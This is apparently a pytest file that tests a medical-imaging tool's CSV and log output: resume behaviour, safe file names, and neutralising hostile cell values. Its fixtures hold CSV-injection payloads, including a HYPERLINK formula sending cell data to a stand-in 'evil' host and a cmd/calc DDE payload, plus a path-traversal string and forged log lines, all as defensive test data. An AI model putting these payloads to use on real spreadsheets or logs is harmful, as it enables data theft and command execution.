"""Scores CSV: durable rows, resume after a cut row, safe file names."""

import csv

import pytest

from isl_rt.errors import InputError
from isl_rt.outputs import SCORE_COLUMNS, ScoreTable, safe_name, write_json_atomic


def _read(path):
    with path.open() as handle:
        return list(csv.DictReader(handle))


def _row(uid, score=1.5, status="ok"):
    return {"path": f"/d/{uid}", "SeriesInstanceUID": uid, "scan_score": score, "flagged": True, "status": status}


def test_rows_are_written_as_they_come(tmp_path):
    out = tmp_path / "scores.csv"
    table = ScoreTable(out)
    table.append(_row("1.2.3"))
    # readable before close: each row is durable on its own
    rows = _read(out)
    assert [r["SeriesInstanceUID"] for r in rows] == ["1.2.3"]
    assert rows[0]["flagged"] == "1" and rows[0]["scan_score"] == "1.5"
    table.close()
    assert tuple(out.read_text().splitlines()[0].split(",")) == SCORE_COLUMNS


def test_resume_keeps_rows_and_drops_a_cut_row(tmp_path):
    out = tmp_path / "scores.csv"
    with ScoreTable(out) as table:
        table.append(_row("1.1"))
        table.append(_row("1.2"))
    with out.open("a") as handle:  # a crash in the middle of the third row
        handle.write("/d/1.3,,1.3,3")
    with ScoreTable(out, resume=True) as table:
        assert table.done("1.1") and table.done("1.2") and not table.done("1.3")
        table.append(_row("1.3"))
    rows = _read(out)
    assert [r["SeriesInstanceUID"] for r in rows] == ["1.1", "1.2", "1.3"]


def test_no_resume_starts_over_and_foreign_csv_is_refused(tmp_path):
    out = tmp_path / "scores.csv"
    with ScoreTable(out) as table:
        table.append(_row("1.1"))
    with ScoreTable(out, resume=False) as table:
        assert not table.done("1.1")
    assert _read(out) == []
    foreign = tmp_path / "other.csv"
    foreign.write_text("a,b\n1,2\n")
    with pytest.raises(InputError, match="--no-resume"):
        ScoreTable(foreign)


@pytest.mark.parametrize("text", ["../../etc/passwd", "a/b", ".hidden", "", "x" * 300, "1.2.840 .5"])
def test_safe_name_never_keeps_a_path(text):
    name = safe_name(text)
    assert "/" not in name and not name.startswith(".") and 0 < len(name) <= 96
    assert name != safe_name(text + "?")


def test_safe_name_keeps_plain_uids():
    assert safe_name("1.2.840.113619.2.55") == "1.2.840.113619.2.55"


def test_write_json_atomic(tmp_path):
    import numpy as np

    path = tmp_path / "sub" / "s.json"
    write_json_atomic(path, {"scores": np.arange(3, dtype=np.float32)})
    assert path.read_text().count("\n") > 1
    assert list(path.parent.iterdir()) == [path]


def test_atomic_writes_get_the_usual_permissions(tmp_path):
    import os

    path = tmp_path / "x.json"
    write_json_atomic(path, {"a": 1})
    mask = os.umask(0)
    os.umask(mask)
    assert path.stat().st_mode & 0o777 == 0o666 & ~mask


def test_a_name_that_is_not_utf8_is_written_escaped_and_found_on_resume(tmp_path):
    from isl_rt.outputs import row_key

    out = tmp_path / "scores.csv"
    odd = {"path": "/d/caf\udcff/x.dcm", "SeriesInstanceUID": "", "status": "skipped", "error": "not DICOM: caf\udcff"}
    with ScoreTable(out) as table:
        table.append(odd)  # a name with byte 0xFF reaches Python as a surrogate escape
    [row] = _read(out)
    assert row["path"] == "/d/caf\\xff/x.dcm" and row["error"] == "not DICOM: caf\\xff"
    with ScoreTable(out, resume=True) as table:
        assert table.done(row_key(odd))


# ---- CSV injection and forged lines (issue 32, items 3 and 7) ------------------------------------
HOSTILE = {
    "path": "@SUM(1,1)/x.dcm",
    "series": '=HYPERLINK("http://evil/?x="&A1,"open")',
    "StudyInstanceUID": "+1+cmd|' /C calc'!A0",
    "SeriesInstanceUID": "1.2\x00.3\n=1+1",
    "n_slices": 2,
    "scan_score": -0.5,
    "healthy_percentile": "-0.25",
    "status": "ok",
    "error": "-2+3\r\nINFO forged",
}


def test_formula_cells_are_neutralised_and_control_characters_escaped(tmp_path):
    from isl_rt.outputs import csv_cell

    out = tmp_path / "scores.csv"
    with ScoreTable(out) as table:
        table.append(HOSTILE)
    data = out.read_bytes()
    assert b"\x00" not in data and b"\r" not in data
    assert data.count(b"\n") == 2  # the header and one row: no newline inside a cell
    [row] = _read(out)
    assert row["path"] == "'@SUM(1,1)/x.dcm"
    assert row["series"] == "'" + HOSTILE["series"]
    assert row["StudyInstanceUID"] == "'+1+cmd|' /C calc'!A0"
    assert row["SeriesInstanceUID"] == "1.2\\x00.3\\x0a=1+1"  # does not start a formula: only escaped
    assert row["error"] == "'-2+3\\x0d\\x0aINFO forged"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell.lstrip("+").replace(".", "").isdigit()
    # TAB and CR at the start are escaped to text, which no spreadsheet reads as a formula
    assert csv_cell("\t=1") == "\\x09=1" and csv_cell("\r@x") == "\\x0d@x"
    assert csv_cell("x\u2028y") == "x\\u2028y"  # a line separator some viewers break at


@pytest.mark.parametrize("value, cell", [(-0.5, "-0.5"), ("-0.5", "-0.5"), (-3, "-3"), ("+2", "+2"), (-1.5e-7, "-1.5e-07"),
                                         (float("-inf"), "-inf"), ("-1e-05", "-1e-05"), (True, "1"), ("1.2.840.10008", "1.2.840.10008")])
def test_numbers_and_plain_uids_are_written_as_they_are(value, cell):
    from isl_rt.outputs import csv_cell

    assert csv_cell(value) == cell
    assert csv_cell(csv_cell(value)) == cell


def test_negative_numbers_survive_a_round_trip_and_a_rewrite(tmp_path):
    out = tmp_path / "scores.csv"
    with ScoreTable(out) as table:
        table.append(HOSTILE)
        table.append(_row("1.9", status="error"))
    with ScoreTable(out, resume=True) as table:
        assert table.retain(lambda r: r["status"] == "ok") == 1  # rewrites the file from the rows read back
    [row] = _read(out)
    assert row["scan_score"] == "-0.5" and float(row["scan_score"]) == -0.5
    assert row["healthy_percentile"] == "-0.25" and row["n_slices"] == "2"
    assert row["series"] == "'" + HOSTILE["series"]  # neutralised once, not again


def test_resume_keys_match_after_a_round_trip(tmp_path):
    from isl_rt.outputs import SLICE_COLUMNS, csv_cell, reconcile_slices, row_key, slices_csv_path

    out = tmp_path / "scores.csv"
    no_uid = {**HOSTILE, "SeriesInstanceUID": "", "path": "-folder\nname", "series": "@series\x00"}
    fresh = [HOSTILE, no_uid]
    slices = [{"series": r["series"], "slice": i, "source": f"=src{i}", "slice_score": -0.1, "apds": 0.2} for r in fresh for i in range(2)]
    with ScoreTable(out) as table, ScoreTable(slices_csv_path(out), columns=SLICE_COLUMNS) as slice_table:
        slice_table.append_many(slices)
        table.append_many(fresh)
        in_memory = {row_key(r) for r in table.rows}
    with ScoreTable(out, resume=True) as table, ScoreTable(slices_csv_path(out), resume=True, columns=SLICE_COLUMNS) as slice_table:
        read_back = {row_key(r) for r in table.rows}
        assert read_back == in_memory == {row_key(r) for r in fresh} and len(read_back) == 2
        assert all(table.done(row_key(r)) for r in fresh)
        assert not table.done(row_key({**HOSTILE, "SeriesInstanceUID": "1.2.3"}))
        reconcile_slices(table, slice_table)  # each series' slice rows are found under its written name
        assert len(table.rows) == 2 and len(slice_table.rows) == 4
        assert {r["series"] for r in slice_table.rows} == {csv_cell(r["series"]) for r in fresh}


def test_log_text_keeps_a_value_on_its_line():
    from isl_rt.outputs import log_text

    assert log_text("1.2.840.10008.1") == "1.2.840.10008.1" and log_text("café") == "café"
    forged = log_text("1.2.3\n2026-01-01 INFO series 9.9: not flagged")
    assert "\n" not in forged and forged.startswith("'1.2.3\\n")
    assert all(ch not in log_text(f"a{ch}b") for ch in "\r\x00\x1b\u2028\x85")


def test_the_node_log_lines_quote_what_the_sender_wrote(tmp_path, caplog):
    pytest.importorskip("pynetdicom")
    import logging
    from types import SimpleNamespace

    from isl_rt import node

    cfg = SimpleNamespace(forward="", results=tmp_path / "results", incoming=tmp_path / "incoming-is-a-file")
    cfg.incoming.write_bytes(b"")  # storing under it fails: the refusal is logged with the SOP UID
    tracker = node.SeriesTracker(60.0)
    fake = SimpleNamespace(config=cfg, tracker=tracker, _count=lambda event, status, series=None: status)
    requestor = SimpleNamespace(ae_title="SCANNER\nFORGED", address="127.0.0.1", port=104)
    event = SimpleNamespace(assoc=SimpleNamespace(requestor=requestor), encoded_dataset=lambda: b"",
                            dataset={"StudyInstanceUID": "1.2", "SeriesInstanceUID": "1.2.3",
                                     "SOPInstanceUID": "1.2.3.4\nCRITICAL isl_rt.node: forged"})
    with caplog.at_level(logging.INFO, logger="isl_rt.node"):
        assert node.Node._on_store(fake, event) == node.OUT_OF_RESOURCES
    assert not tracker._storing  # the refused instance is no longer counted as being written
    [record] = [r for r in caplog.records if "cannot store" in r.getMessage()]
    assert "\n" not in record.getMessage() and "1.2.3.4\\nCRITICAL" in record.getMessage()
    assert "SCANNER\\nFORGED" in record.getMessage()
    for row in ({"SeriesInstanceUID": "1.2\nforged", "status": "error", "error": "bad\nINFO forged"},
                {"SeriesInstanceUID": "1.2\nforged", "status": "ok", "flagged": True, "scan_score": 0.5, "n_slices": 3, "seconds": 1.0}):
        line = node._describe(row, cfg)
        assert "\n" not in line and line.startswith("'1.2\\nforged'")
